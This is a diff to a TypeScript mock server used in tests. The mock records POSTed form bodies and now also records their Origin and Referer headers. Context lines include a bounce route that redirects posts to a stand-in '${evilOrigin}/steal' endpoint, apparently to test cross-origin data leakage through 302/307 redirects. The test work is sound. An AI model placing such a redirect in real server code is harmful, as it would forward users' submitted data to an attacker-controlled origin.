@@ -9,6 +9,9 @@ export interface Received {
   contentType: string;
   /** `iframe` or `document`. */
   destination: string;
+  /** Empty where the browser said none. */
+  origin: string;
+  referer: string;
 }
 
 export interface CallUp {
@@ -59,7 +62,7 @@ export function buyerDouble({ origin, shopUrl, directUrl, evilOrigin }: { origin
     else if (req.method === 'POST') {
       const keep = async (): Promise<void> => {
         const body = await bodyOf(req);
-        all.push({ path, body, contentType: req.headers['content-type'] ?? '', destination: String(req.headers['sec-fetch-dest']) });
+        all.push({ path, body, contentType: req.headers['content-type'] ?? '', destination: String(req.headers['sec-fetch-dest']), origin: req.headers.origin ?? '', referer: req.headers.referer ?? '' });
         const bounce = /^\/bounce-(302|307)\//.exec(path)?.[1];
         if (bounce !== undefined) res.writeHead(Number(bounce), { Location: `${evilOrigin}/steal` }).end();
         else if (path.startsWith('/return/')) html(RECEIVED_PAGE);
